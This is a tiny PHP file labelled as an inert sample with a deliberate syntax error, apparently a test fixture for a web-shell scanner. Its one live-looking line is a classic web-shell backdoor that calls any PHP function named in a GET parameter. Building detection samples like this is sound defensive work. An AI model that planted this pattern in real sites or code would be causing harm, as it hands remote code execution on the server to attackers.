<?php
shodo inert sample: deliberate syntax error, this file never runs
 call_user_func_array($_GET['fn'], array($_GET['arg'])); ?>
